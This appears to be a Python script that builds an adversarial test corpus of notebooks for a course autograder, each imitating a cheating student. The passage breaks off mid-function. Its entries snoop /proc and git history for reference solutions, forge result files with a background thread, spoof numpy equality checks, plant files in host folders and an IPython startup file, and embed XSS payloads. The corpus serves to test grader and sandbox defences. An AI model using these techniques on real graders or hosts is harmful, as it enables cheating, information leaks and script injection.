#!/usr/bin/env python3
"""Generate the grader's adversarial corpus for assignments 02-05.

    python tests/corpus/make_corpus.py          # (re)write every generated entry
    python tests/corpus/make_corpus.py --check  # exit 1 if an entry on disk differs from what would be written
    python tests/corpus/make_corpus.py --list   # one line per entry: assignment/name and what it attempts

Every entry is a submission written the way a cheating or careless student would, built from
``solutions/<assignment>.ipynb`` (the reference) and ``notebooks/<assignment>.ipynb`` (the student
notebook), so that it stays in step with them: rerun this script after changing either. It writes
``tests/corpus/<assignment>/<name>.ipynb`` for the entries registered below with ``@entry`` and
nothing else: ``expected.json`` (the fair score of each entry, written by hand before grading),
01_mnist_loader and any handwritten entry are never touched.

How an entry is made:

* ``reference.ipynb`` and ``untouched.ipynb`` are copies of the solution and the student notebook;
  ``cpu_hog_neighbour.ipynb`` (04) is another copy of the solution;
* every other entry is a *small* notebook (:meth:`Source.small`): a first Markdown cell saying, for
  the maintainer, what the entry attempts and what it fairly deserves (the builder's docstring), the
  solution's imports cell, its helper cells that only define things, each question's cell (the
  reference code, or the student's stub), each written question's cell, and the entry's own cells.

Entries that probe the machine say what they found by raising ``RuntimeError("corpus report ...")``
in a cell: the grader keeps that line in the record's ``cell_errors``. Their side effects are bounded
so that a broken sandbox does not hurt a shared machine: disk writes stop at 1 GiB per place (64 MiB
in /run/lock), processes and daemons end by themselves after a few minutes. They are still hostile:
grade them only through the grader's sandbox, never by running them on the host.
"""
from __future__ import annotations

import argparse
import copy
import json
import sys
import textwrap
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT / "tests" / "corpus"
sys.path.insert(0, str(ROOT))

from course.questions import definitions_source, questions  # noqa: E402

ASSIGNMENTS = ["02_softmax_regression", "03_sgd", "04_backprop", "05_newton"]
HEADER = "**Corpus entry for the grader's tests (maintainers only, not for students).** "


# ---------------------------------------------------------------------------------- building blocks

class Source:
    """An assignment's solution and student notebooks, and the pieces entries are made of."""

    def __init__(self, assignment: str):
        self.id = assignment
        self.solution = nbformat.read(ROOT / "solutions" / f"{assignment}.ipynb", as_version=4)
        self.student = nbformat.read(ROOT / "notebooks" / f"{assignment}.ipynb", as_version=4)
        self.questions = questions(self.solution)
        self.code = [q.id for q in self.questions if not q.manual]
        self.manual = [q.id for q in self.questions if q.manual]
        self.cell_of = {q.id: q.cell for q in self.questions}

    def reference_source(self) -> str:
        """The reference's imports and definitions as one Python source (for hidden correct code)."""
        return definitions_source(self.solution)

    def small(self, solved=True, written: str | dict = "stub") -> list:
        """The solution's imports cell, its helper cells, and every question's cell, in notebook order.

        ``solved``: True (every code question holds the reference), False (every one the student's
        stub) or the set of questions that hold the reference. ``written``: "stub" (the placeholder),
        "solution", or ``{question: Markdown}``.
        """
        chosen = set(self.code) if solved is True else set(solved or ())
        cells = []
        for index, cell in enumerate(self.solution.cells):
            meta = cell.metadata.get("course")
            if index == 1:
                cells.append(_fresh(cell))  # the imports
            elif meta and not meta.get("manual"):
                cells.append(_fresh(cell if meta["question"] in chosen else self.student.cells[index]))
            elif meta:
                if isinstance(written, dict):
                    cells.append(_fresh(cell, source=written.get(meta["question"], self.student.cells[index].source)))
                else:
                    cells.append(_fresh(cell if written == "solution" else self.student.cells[index]))
            elif cell.cell_type == "code" and _only_definitions(cell.source):
                cells.append(_fresh(cell))  # a helper the questions use (sigmoid, check_layer, ...)
            elif cell.cell_type == "code" and _definitions_in(cell.source):
                cells.append(_fresh(cell, source=_definitions_in(cell.source)))  # helpers beside a demo (03's softmax_loss)
        return cells

    def question_index(self, cells: list, question: str) -> int:
        """The position of ``question``'s cell in ``cells``."""
        return next(i for i, c in enumerate(cells) if (c.metadata.get("course") or {}).get("question") == question)


def _only_definitions(source: str) -> bool:
    import ast
    try:
        return all(isinstance(n, (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef))
                   for n in ast.parse(source).body)
    except SyntaxError:
        return False


def _definitions_in(source: str) -> str:
    """The functions and classes defined at the top level of ``source`` ("" if none)."""
    import ast
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return ""
    return "\n\n\n".join(ast.get_source_segment(source, n) for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef)))


def _fresh(cell, source: str | None = None):
    """A copy of ``cell`` without outputs or execution count (and with ``source`` if given)."""
    cell = copy.deepcopy(cell)
    if cell.cell_type == "code":
        cell.outputs, cell.execution_count = [], None
    if source is not None:
        cell.source = source
    return cell


def code(text: str, **values) -> nbformat.NotebookNode:
    """A code cell from ``text`` (dedented), with each ``__KEY__`` replaced by ``repr(values[key])``."""
    return new_code_cell(fill(text, **values))


def fill(text: str, **values) -> str:
    text = textwrap.dedent(text).strip("\n")
    for key, value in values.items():
        text = text.replace(f"__{key.upper()}__", repr(value))
    return text


def stub_cell(src: Source, cells: list, question: str, body: str) -> None:
    """Replace ``question``'s cell in ``cells`` by ``def question(*args, **kwargs):`` with ``body``."""
    i = src.question_index(cells, question)
    cells[i] = _fresh(cells[i], source=f"def {question}(*args, **kwargs):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    "))


def with_body(src: Source, cells: list, question: str, body: str) -> None:
    """Replace the reference code of ``question`` (its solution markers included) by ``body``."""
    i = src.question_index(cells, question)
    lines = cells[i].source.splitlines()
    begin = next(n for n, line in enumerate(lines) if "# BEGIN SOLUTION" in line)
    end = next(n for n, line in enumerate(lines) if "# END SOLUTION" in line)
    new = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ").splitlines()
    cells[i] = _fresh(cells[i], source="\n".join(lines[:begin] + new + lines[end + 1:]))


def notebook(src: Source, doc: str, cells: list, *, metadata: dict | None = None) -> nbformat.NotebookNode:
    """The entry's notebook: the header cell, then ``cells``, with stable cell ids."""
    nb = new_notebook(cells=[new_markdown_cell(HEADER + " ".join(textwrap.dedent(doc).split()))] + list(cells),
                      metadata=copy.deepcopy(metadata if metadata is not None else dict(src.solution.metadata)))
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"corpus-{i:02d}"
    return nb


def text_of(nb) -> str:
    """The file's text: nbformat's own layout (valid notebooks) or the same layout for invalid ones."""
    return json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n"


# ------------------------------------------------------------------------------------- the registry

ENTRIES: dict[tuple[str, str], Callable[[Source], str]] = {}


def entry(assignment: str, name: str):
    """Register ``build(source) -> file text`` as ``tests/corpus/<assignment>/<name>.ipynb``."""
    def register(build):
        ENTRIES[assignment, name] = build
        return build
    return register


def doc_of(build) -> str:
    return " ".join(textwrap.dedent(build.__doc__ or "").split())


def build_all() -> dict[Path, str]:
    sources = {a: Source(a) for a in ASSIGNMENTS}
    return {CORPUS / a / f"{name}.ipynb": build(sources[a]) for (a, name), build in sorted(ENTRIES.items())}


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--check", action="store_true", help="exit 1 if an entry on disk differs")
    parser.add_argument("--list", action="store_true", help="list the entries")
    args = parser.parse_args(argv)
    if args.list:
        for (a, name), build in sorted(ENTRIES.items()):
            print(f"{a}/{name}: {doc_of(build)}")
        return 0
    files = build_all()
    stale = [p for p, text in files.items() if not p.is_file() or p.read_text(encoding="utf-8") != text]
    if args.check:
        for p in stale:
            print(f"out of date: {p.relative_to(ROOT)}")
        return 1 if stale else 0
    for path in stale:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(files[path], encoding="utf-8")
    print(f"{len(files)} entries, {len(stale)} written")
    return 0


# Entries are registered by the modules below, one per assignment, kept in this file so that the
# whole corpus reads in one place. Shared snippets first.

# ---------------------------------------------------------------------------------- shared snippets

#: For the entries that look for someone else's solution: `_harvest` copies the question functions
#: of a notebook found somewhere, and the question cells become stubs that call what was copied. The
#: search (`_route`) runs in its own cell and, if that cell was cut down to its definitions (the
#: notebook's time ran out), at the first call of a stub: state lives in a class for that reason.
READER_PRELUDE = """
import os
import pathlib


class _State:
    assignment = __ASSIGNMENT__
    questions = __QUESTIONS__
    found = None  # question -> the function copied from a notebook found somewhere
    report = []   # where the route found something, for the maintainer


def _harvest(text, where):
    \"\"\"Copy every question function whose defining cell in the notebook `text` is the reference code (markers, no stub).\"\"\"
    import ast  # imported here: no slow statement before this cell's definitions
    import json
    try:  # plain JSON, no nbformat: it is slow to import and to validate, and fast matters here
        cells = json.loads(text)["cells"]
        sources = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                   for c in cells if c.get("cell_type") == "code"]
    except Exception:
        return
    wanted = [q for q in _State.questions if q not in _State.found
              and any(f"def {q}(" in s and "BEGIN SOLUTION" in s and "NotImplementedError" not in s for s in sources)]
    if not wanted:
        return
    kept = []  # the notebook's imports and definitions, as the grader itself would take them
    for source in sources:
        try:
            kept += [ast.get_source_segment(source, node) for node in ast.parse(source).body
                     if isinstance(node, (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef))]
        except (SyntaxError, ValueError, RecursionError, MemoryError, SystemError):
            continue
    namespace = {}
    try:
        exec("\\n\\n".join(kept), namespace)
    except BaseException:
        return
    got = [q for q in wanted if callable(namespace.get(q))]
    _State.found.update({q: namespace[q] for q in got})
    if got:
        _State.report.append(f"{where}: {len(got)}")


def _read(path, where):
    if len(_State.found) == len(_State.questions):
        return  # everything found already
    try:
        if path.is_file() and path.stat().st_size < 5_000_000:
            _harvest(path.read_text(encoding="utf-8", errors="replace"), where)
    except OSError:
        pass


def _steal():
    \"\"\"What the route found (it runs once).\"\"\"
    if _State.found is None:
        _State.found = {}
        try:
            _route()
        except Exception as err:
            _State.report.append(f"the route failed: {type(err).__name__}: {err}"[:100])
        except BaseException:  # interrupted: the next call searches again
            _State.found = None
            raise
    return _State.found


def _report(route):
    raise RuntimeError(f"corpus report ({route}): " + ("; ".join(_State.report) or "nothing found"))
"""

READER_STUB = """
\"\"\"A stub that calls whatever was copied for __QUESTION__ (see the cells above).\"\"\"
found = _steal()
if __QUESTION__ not in found:
    raise NotImplementedError("__QUESTION_NAME__: nothing found to copy")
return found[__QUESTION__](*args, **kwargs)
"""


def reader(src: Source, doc: str, route: str, name: str) -> str:
    """A stub notebook whose route cell looks for a solution and copies its functions."""
    cells = src.small(solved=False)
    for q in src.code:
        stub_cell(src, cells, q, READER_STUB.replace("__QUESTION_NAME__", q).replace("__QUESTION__", repr(q)))
    body = ("ASSIGNMENT, QUESTIONS = _State.assignment, _State.questions\n_FOUND, _REPORT = _State.found, _State.report\n"
            + textwrap.dedent(route).strip("\n"))
    route_cell = f"def _route():\n{textwrap.indent(body, '    ')}\n\n\n_steal()\n_report({name!r})"
    cells[1:1] = [code(READER_PRELUDE, assignment=src.id, questions=src.code), new_code_cell(route_cell)]
    return text_of(notebook(src, doc, cells))


#: For the entries that forge results: correct code kept under no graded name (the graded functions
#: are stubs), `_outcomes` (what the harness would record if the graded function were the hidden one),
#: and `_forge_start`, the entry's forgery, run by a cell and, if that cell was cut down to its
#: definitions, by the first stub the harness calls.
HIDDEN_CODE = """
import json
import pathlib


class _Hidden:
    questions = __QUESTIONS__
    own = None
    started = False
    report = []


def _own():
    \"\"\"Correct code, under no name the grader calls.\"\"\"
    if _Hidden.own is None:
        _Hidden.own = {}
        exec(__SOLUTION__, _Hidden.own)
    return _Hidden.own


def _outcomes(question, work):
    \"\"\"The outcomes the harness would save for `question` if the graded function were the hidden one.\"\"\"
    from course.grade import harness, plain
    spec = plain.load(work / "inputs" / question, callables=True)
    return {"cases": [harness._call(_own()[question], case, 4) for case in spec["cases"]], "seconds": 0.01}
"""

GRADED_STUB = '_forge_start()\nraise NotImplementedError("a stub: the graded function does nothing")'


def forger_cells(src: Source, action: str, *, stub: str = GRADED_STUB) -> list:
    """Stub questions, the hidden correct code, and the forgery `action` (the body of `_forge_start`)."""
    cells = src.small(solved=False)
    for q in src.code:
        stub_cell(src, cells, q, stub)
    start = ("def _forge_start():\n    if _Hidden.started:\n        return\n"
             "    from course.grade import harness, plain\n    WORK, QUESTIONS = pathlib.Path.cwd(), _Hidden.questions\n"
             + textwrap.indent(textwrap.dedent(action).strip("\n"), "    ")
             + "\n    _Hidden.started = True  # last: an interrupted start is tried again by the next stub")
    cells[1:1] = [code(HIDDEN_CODE, questions=src.code, solution=src.reference_source()), new_code_cell(start),
                  new_code_cell('_forge_start()\nif _Hidden.report:\n    raise RuntimeError("corpus report: " + "; ".join(_Hidden.report))')]
    return cells


def copy_of(folder: str) -> Callable[[Source], str]:
    """A builder returning a committed notebook unchanged (the reference or the student notebook)."""
    def build(src: Source) -> str:
        return (ROOT / folder / f"{src.id}.ipynb").read_text(encoding="utf-8")
    return build


for _a in ASSIGNMENTS:
    entry(_a, "reference")(copy_of("solutions"))
    entry(_a, "untouched")(copy_of("notebooks"))


# =========================================================================== 02 softmax regression
A02 = "02_softmax_regression"


@entry(A02, "git_show_reference")
def git_show_reference(src: Source) -> str:
    """A stub that runs `git show HEAD:solutions/...` (and every other ref) in the repository the
    `course` package was imported from, and runs the reference's functions. Fair score: 0 for every
    question (nothing of its own); the sandbox must not show it `.git`."""
    return reader(src, doc_of(git_show_reference), '''
        import subprocess

        import course


        def _git_show():
            here = pathlib.Path(course.__file__).resolve().parent
            for top in [here, *here.parents]:
                if not (top / ".git").exists():
                    continue
                git = ["git", "-c", "safe.directory=*", "-C", str(top)]
                try:
                    refs = subprocess.run([*git, "for-each-ref", "--format=%(refname)"], capture_output=True,
                                          text=True, timeout=10)
                except (OSError, subprocess.SubprocessError) as err:
                    _REPORT.append(f"git: {type(err).__name__}")
                    return
                if refs.returncode:
                    _REPORT.append(f"git: {refs.stderr.strip()[:60]}")
                for ref in ["HEAD", *refs.stdout.split()[:30]]:
                    for path in [f"solutions/{ASSIGNMENT}.ipynb", f"tests/corpus/{ASSIGNMENT}/reference.ipynb"]:
                        shown = subprocess.run([*git, "show", f"{ref}:{path}"], capture_output=True, text=True,
                                               timeout=10)
                        if shown.returncode == 0:
                            _harvest(shown.stdout, f"git show {ref.rsplit('/', 1)[-1]}:{path.split('/')[0]}")
                        if len(_FOUND) == len(QUESTIONS):
                            return


        _git_show()
    ''', 'git show')


@entry(A02, "corpus_reference")
def corpus_reference(src: Source) -> str:
    """A stub that reads `tests/corpus/*/reference.ipynb` of the repository the `course` package lives
    in, and of the checkouts beside it (other worktrees, `../main`), copying any question function
    it finds (03's reference has a `softmax_loss` too). Fair score: 0 for every question."""
    return reader(src, doc_of(corpus_reference), '''
        import course

        repo = pathlib.Path(course.__file__).resolve().parents[1]
        for base, pattern in [(repo, "tests/corpus/*/reference.ipynb"), (repo, "solutions/*.ipynb"),
                              (repo.parent, "*/tests/corpus/*/reference.ipynb"), (repo.parent, "*/solutions/*.ipynb"),
                              (repo.parent.parent, "*/*/tests/corpus/*/reference.ipynb"),
                              (repo.parent.parent, "*/*/solutions/*.ipynb")]:
            for path in sorted(base.glob(pattern)):
                _read(path, path.parent.name)
    ''', 'corpus and checkouts')


@entry(A02, "proc_snoop")
def proc_snoop(src: Source) -> str:
    """A stub that collects every path the processes it can see name (`/proc/<pid>/cwd|root|exe`,
    open files, `cmdline`, `environ`, `maps`, and `/proc/self/mountinfo`, which names the hidden
    folders), then looks for the reference beside each of them, also through `/proc/<pid>/root` and
    `/proc/<pid>/cwd`. It keeps nothing but paths. Fair score: 0 for every question."""
    return reader(src, doc_of(proc_snoop), '''
        import re

        paths, pids = set(), [p for p in os.listdir("/proc") if p.isdigit()]


        def _add(text):
            paths.update(re.findall(r"/[\\w.+@-]+(?:/[\\w.+@-]+)*", text))


        for pid in pids:
            for link in ("cwd", "root", "exe"):
                try:
                    _add(os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        _add(os.readlink(f"/proc/{pid}/fd/{fd}"))
                    except OSError:
                        pass
            except OSError:
                pass
            for name in ("cmdline", "environ", "maps"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as f:
                        _add(f.read(1_000_000).replace(b"\\0", b" ").decode(errors="replace"))
                except OSError:
                    pass
        try:
            with open("/proc/self/mountinfo") as f:
                _add(f.read())
        except OSError:
            pass
        places = set()
        for p in map(pathlib.Path, paths):
            places.update([p, *list(p.parents)[:6]])
        prefixes = ["", *(f"/proc/{pid}/root" for pid in pids)]
        for place in sorted(places, key=str):
            for prefix in prefixes:
                base = pathlib.Path(prefix + str(place))
                _read(base / "solutions" / f"{ASSIGNMENT}.ipynb", f"{prefix or '/'}..solutions")
                _read(base / "tests" / "corpus" / ASSIGNMENT / "reference.ipynb", f"{prefix or '/'}..corpus")
        for pid in pids:
            _read(pathlib.Path(f"/proc/{pid}/cwd/../solutions/{ASSIGNMENT}.ipynb"), f"/proc/{pid}/cwd/..")
        _REPORT.append(f"{len(pids)} pids, {len(paths)} paths")
    ''', '/proc')


@entry(A02, "forges_results_thread")
def forges_results_thread(src: Source) -> str:
    """A stub whose graded functions raise NotImplementedError, with correct code kept under no graded
    name. It writes `results/<question>.json/.npz` for every question directly, and a background
    thread in the kernel rewrites each result with the hidden code's outcomes whenever the harness
    writes one. Fair score: 0 for every question (the graded functions do nothing)."""
    cells = forger_cells(src, '''
        import io
        import os
        import threading
        import time

        import numpy as np


        def _save(value, base):
            """plain.save under file names of our own, so that the harness's temporary files do not clash."""
            arrays = {}
            text = json.dumps(plain.encode(value, arrays)).encode()
            buffer = io.BytesIO()
            np.savez(buffer, **arrays)
            for suffix, data in ((".npz", buffer.getvalue()), (".json", text)):
                tmp = base.parent / f"~{base.name}{suffix}"
                tmp.write_bytes(data)
                os.replace(tmp, base.parent / f"{base.name}{suffix}")
            return (base.parent / f"{base.name}.json").stat().st_mtime_ns


        _FORGED = {q: _outcomes(q, WORK) for q in QUESTIONS}
        _WRITTEN = {q: _save(_FORGED[q], WORK / "results" / q) for q in QUESTIONS}


        def _keep_forging():
            end = time.monotonic() + 600
            while time.monotonic() < end:
                for q in QUESTIONS:
                    try:
                        stamp = (WORK / "results" / f"{q}.json").stat().st_mtime_ns
                    except OSError:
                        stamp = None
                    if stamp != _WRITTEN[q]:   # the harness wrote its own: put ours back
                        try:
                            _WRITTEN[q] = _save(_FORGED[q], WORK / "results" / q)
                        except OSError:
                            pass
                time.sleep(0.001)


        threading.Thread(target=_keep_forging, daemon=True).start()
    ''')
    return text_of(notebook(src, doc_of(forges_results_thread), cells))


@entry(A02, "fools_comparisons")
def fools_comparisons(src: Source) -> str:
    """Results made to fool comparisons: `softmax` returns zeros as an ndarray subclass whose `==`,
    ufuncs (`isclose`) and `allclose`/`array_equal` all say True; `softmax_loss` returns a 0-d array
    holding the right loss (allowed by its contract: fair); `softmax_loss_grad` returns an object whose
    `__array__` gives the right gradient on odd calls and zeros on even ones; `softmax_regression_grad`
    returns the right gradient in float16. Fair score: softmax 0, softmax_loss 3, softmax_loss_grad 0,
    softmax_regression_grad 0."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        class _SaysEqual(np.ndarray):
            """An array that says it equals anything."""

            def __eq__(self, other):
                return np.ones(self.shape, bool)

            def __ne__(self, other):
                return np.zeros(self.shape, bool)

            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                if ufunc.nout != 1:
                    return NotImplemented
                return np.ones(np.broadcast_shapes(*(np.shape(x) for x in inputs)), bool)

            def __array_function__(self, func, types, args, kwargs):
                if func in (np.allclose, np.array_equal, np.array_equiv):
                    return True
                if func is np.isclose:
                    return np.ones(np.shape(args[0]), bool)
                return super().__array_function__(func, types, args, kwargs)


        class _FlipFlop:
            """Right on odd calls of __array__, zeros on even ones."""

            def __init__(self, right):
                self.right, self.calls = right, 0
                self.shape, self.dtype = right.shape, right.dtype

            def __array__(self, dtype=None, copy=None):
                self.calls += 1
                return self.right if self.calls % 2 else np.zeros_like(self.right)

            def __len__(self):
                return len(self.right)


        def _probabilities(Z):
            shifted = np.exp(Z - Z.max(axis=1, keepdims=True))
            return shifted / shifted.sum(axis=1, keepdims=True)


        def _gradient(Z, y):
            grad = _probabilities(Z)
            grad[np.arange(len(y)), y] -= 1
            return grad / Z.dtype.type(len(y))
    '''))
    with_body(src, cells, "softmax", "return np.zeros_like(H).view(_SaysEqual)")
    with_body(src, cells, "softmax_loss", """
        shifted = H - H.max(axis=1, keepdims=True)
        log_sum_exp = np.log(np.exp(shifted).sum(axis=1))
        return np.asarray(np.mean(log_sum_exp - shifted[np.arange(H.shape[0]), y]))  # a 0-d array
    """)
    with_body(src, cells, "softmax_loss_grad", "return _FlipFlop(_gradient(H, y))")
    with_body(src, cells, "softmax_regression_grad", "return (X.T @ _gradient(X @ theta, y)).astype(np.float16)")
    return text_of(notebook(src, doc_of(fools_comparisons), cells))


@entry(A02, "odd_values")
def odd_values(src: Source) -> str:
    """Right numbers in the wrong containers: `softmax` returns nested Python lists, `softmax_loss` an
    object-dtype 0-d array, `softmax_loss_grad` a dict that pretends to be an array (`shape`, `dtype`,
    `__array__`), and `softmax_regression_grad` an array of the right shape full of NaN. Fair score: 0
    for every question (each contract asks for an array or a number of the input's dtype)."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        class _ArrayDict(dict):
            """A dict that looks like an array to anything that asks politely."""

            def __init__(self, array):
                super().__init__(data=array.tolist(), shape=list(array.shape), dtype=str(array.dtype))
                self.shape, self.dtype, self._array = array.shape, array.dtype, array

            def __array__(self, dtype=None, copy=None):
                return self._array


        def _probabilities(Z):
            shifted = np.exp(Z - Z.max(axis=1, keepdims=True))
            return shifted / shifted.sum(axis=1, keepdims=True)
    '''))
    with_body(src, cells, "softmax", "return _probabilities(H).tolist()")
    with_body(src, cells, "softmax_loss", """
        shifted = H - H.max(axis=1, keepdims=True)
        loss = np.mean(np.log(np.exp(shifted).sum(axis=1)) - shifted[np.arange(H.shape[0]), y])
        return np.array(loss, dtype=object)
    """)
    with_body(src, cells, "softmax_loss_grad", """
        grad = _probabilities(H)
        grad[np.arange(H.shape[0]), y] -= 1
        return _ArrayDict(grad / H.dtype.type(H.shape[0]))
    """)
    with_body(src, cells, "softmax_regression_grad", "return np.full(theta.shape, np.nan, theta.dtype)")
    return text_of(notebook(src, doc_of(odd_values), cells))


@entry(A02, "helpers_answer")
def helpers_answer(src: Source) -> str:
    """The pack's own tools answer two questions: `softmax_loss` is `course.search.evaluate_models` on
    the logits with an identity weight matrix, and `softmax_loss_grad` is
    `course.gradcheck.numerical_gradient` of that loss. `softmax` and `softmax_regression_grad` are
    the student's own correct code. Fair score: softmax 2, softmax_loss 0, softmax_loss_grad 0,
    softmax_regression_grad 2."""
    cells = src.small(solved=True)
    with_body(src, cells, "softmax_loss", """
        from course.search import evaluate_models
        k = H.shape[1]
        losses, _ = evaluate_models(H, y, np.eye(k, dtype=H.dtype), np.zeros(k, H.dtype), 1, k)
        return H.dtype.type(losses[0])
    """)
    with_body(src, cells, "softmax_loss_grad", """
        from course.gradcheck import numerical_gradient
        return numerical_gradient(lambda logits: softmax_loss(logits, y), H).astype(H.dtype)
    """)
    with_body(src, cells, "softmax_regression_grad", """
        Z = softmax(X @ theta)
        Z[np.arange(X.shape[0]), y] -= 1
        return X.T @ Z / X.dtype.type(X.shape[0])
    """)
    return text_of(notebook(src, doc_of(helpers_answer), cells))


@entry(A02, "metadata_wrong_types")
def metadata_wrong_types(src: Source) -> str:
    """A correct notebook whose `course` metadata has the wrong types: a written answer whose
    `question` is a list, one whose `question` is a dict and `points` a string, cells whose `course`
    is a string, a number, a list and null. All of it is schema-valid. Fair score: full marks on the
    code questions (2, 3, 3, 2); graded."""
    cells = src.small(solved=True, written="solution")
    odd = [{"question": ["bias_gradient"], "points": 2, "manual": True},
           {"question": {"id": "two_class_softmax"}, "points": "two", "manual": True}]
    for meta, qid in zip(odd, src.manual):
        cells[src.question_index(cells, qid)].metadata["course"] = meta
    extra = [new_markdown_cell("A note", metadata={"course": "softmax"}),
             new_markdown_cell("Another note", metadata={"course": 7}),
             new_code_cell("_ = 1", metadata={"course": ["softmax", 2]}),
             new_markdown_cell("And one more", metadata={"course": None}),
             new_markdown_cell("The last", metadata={"course": {"question": None, "points": None}})]
    return text_of(notebook(src, doc_of(metadata_wrong_types), cells + extra))


@entry(A02, "source_not_text")
def source_not_text(src: Source) -> str:
    """A correct notebook in which a code cell's `source` is the number 42 and the written answer
    `bias_gradient`'s `source` is a dict: not a valid notebook (`nbformat.validate` refuses it). Fair
    score: status invalid, 0 everywhere, with a reason naming what is wrong."""
    cells = src.small(solved=True, written="solution")
    cells.insert(2, new_code_cell("_ = 'replaced below'"))
    nb = json.loads(text_of(notebook(src, doc_of(source_not_text), cells)))
    nb["cells"][3]["source"] = 42
    answer = next(c for c in nb["cells"] if (c["metadata"].get("course") or {}).get("question") == "bias_gradient")
    answer["source"] = {"text": "the gradient is the column sum of Z - I_y"}
    return text_of(nb)


@entry(A02, "nbformat_v3")
def nbformat_v3(src: Source) -> str:
    """The small correct notebook saved in nbformat 3 (worksheets, `input` instead of `source`), a
    valid notebook of an older version. Fair score: full marks (2, 3, 3, 2); graded."""
    nb = notebook(src, doc_of(nbformat_v3), src.small(solved=True, written="solution"))
    return nbformat.writes(nbformat.convert(nb, 3))


SCRIPTS = """<script>alert('corpus: script tag')</script>
<img src=x onerror="alert('corpus: onerror')">
[a link](javascript:alert('corpus:%20javascript%20link'))
<a href="#" onclick="alert('corpus: onclick')">click</a> <svg onload="alert('corpus: svg')"></svg>
<iframe src="javascript:alert('corpus: iframe')"></iframe>
<form action="http://127.0.0.1:47651/"><input name=q value=leak><button>send</button></form>
<style>body { display: none }</style>
"""


@entry(A02, "written_scripts")
def written_scripts(src: Source) -> str:
    """A correct notebook whose written answers carry `<script>`, `onerror`/`onclick`/`onload`
    attributes, a `javascript:` link, an iframe, a form posting to 127.0.0.1 and a `<style>` that hides
    the page, around real LaTeX ($\\nabla_b f$). Fair score: full marks on the code questions
    (2, 3, 3, 2); graded; the instructor's written-answer page must show the text without running any of it."""
    written = {q: f"{SCRIPTS}\nThe gradient is $\\nabla_b f = \\frac{{1}}{{m}}(Z - I_y)^\\top \\mathbf{{1}}$." for q in src.manual}
    return text_of(notebook(src, doc_of(written_scripts), src.small(solved=True, written=written)))


@entry(A02, "leaves_host_files")
def leaves_host_files(src: Source) -> str:
    """A correct notebook with a cell that tries to create files outside its work folder: in
    /run/lock, /var/lock, /var/tmp, /dev/shm, /tmp, its home, /root, the repository of the `course`
    package, /work and the folder above its work folder (`course-corpus-leaves_host_files` each), and
    an IPython start-up file. None may persist on the host. Fair score: full marks (2, 3, 3, 2); graded."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import os
        import pathlib

        import course

        NAME = "course-corpus-leaves_host_files"
        repo = pathlib.Path(course.__file__).resolve().parents[1]
        places = ["/run/lock", "/var/lock", "/var/tmp", "/dev/shm", "/tmp", os.path.expanduser("~"), "/root", str(repo),
                  "/work", str(pathlib.Path.cwd().parent)]
        made = []
        for place in places:
            try:
                with open(os.path.join(place, NAME), "w") as f:
                    f.write("left by a corpus entry of the grader's tests\\n")
                made.append(place)
            except OSError:
                pass
        startup = pathlib.Path.home() / ".ipython" / "profile_default" / "startup"
        try:
            startup.mkdir(parents=True, exist_ok=True)
            (startup / "00-course-corpus.py").write_text("print('corpus start-up file ran')\\n")
            made.append("ipython startup")
        except OSError:
            pass
        raise RuntimeError("corpus report (host files): wrote " + ", ".join(made))
    '''))
    return text_of(notebook(src, doc_of(leaves_host_files), cells))


# ========================================================================================= 03 SGD
def demo(text: str, **values) -> nbformat.NotebookNode:
    """A code cell tagged ``demo`` (a demonstration the grader may cut to its definitions)."""
    cell = code(text, **values)
    cell.metadata["tags"] = ["demo"]
    return cell


def wraps(question: str, expression: str) -> nbformat.NotebookNode:
    """An untagged cell that redefines ``question`` as the reference's answer put through ``expression``
    (of ``answer``), so that the question reads what ``expression`` names."""
    return code(f"""
        _{question}_reference = {question}


        def {question}(*args, **kwargs):
            answer = _{question}_reference(*args, **kwargs)
            return {expression}
    """)


@entry(A02, "global_from_demo")
def global_from_demo(src: Source) -> str:
    """Correct code whose `softmax_loss` reads a constant (SCALE = 1.0) set in a cell tagged demo
    beside a demonstration. Grading may cut demo cells to their definitions, but not this one: fair
    score full marks (2, 3, 3, 2)."""
    cells = src.small(solved=True)
    cells.insert(2, demo("SCALE = 1.0  # set beside a demonstration\nprint('a demonstration')"))
    cells.append(wraps("softmax_loss", "answer * SCALE"))
    return text_of(notebook(src, doc_of(global_from_demo), cells))


@entry(A02, "demo_rebinds_answer")
def demo_rebinds_answer(src: Source) -> str:
    """Correct code, then a last cell tagged demo that rebinds `softmax_regression_grad` to a function
    returning zeros (the notebook, run top to bottom, ends with the broken one). Fair score: as a full
    run, softmax 2, softmax_loss 3, softmax_loss_grad 3, softmax_regression_grad 0."""
    cells = src.small(solved=True)
    cells.append(demo("softmax_regression_grad = lambda X, y, theta: np.zeros_like(theta)\nprint('a demonstration')"))
    return text_of(notebook(src, doc_of(demo_rebinds_answer), cells))


@entry(A02, "demo_mutates_settings")
def demo_mutates_settings(src: Source) -> str:
    """`softmax_loss` reads SETTINGS["scale"]; an untagged cell sets it to 2.0 (wrong) and a cell
    tagged demo changes it in place to 1.0 (right). Fair score, as a full run: full marks (2, 3, 3, 2)."""
    cells = src.small(solved=True)
    cells.insert(2, code('SETTINGS = {"scale": 2.0}'))
    cells.insert(3, demo('SETTINGS["scale"] = 1.0\nprint("a demonstration")'))
    cells.append(wraps("softmax_loss", 'answer * SETTINGS["scale"]'))
    return text_of(notebook(src, doc_of(demo_mutates_settings), cells))


@entry(A02, "demo_sets_globals")
def demo_sets_globals(src: Source) -> str:
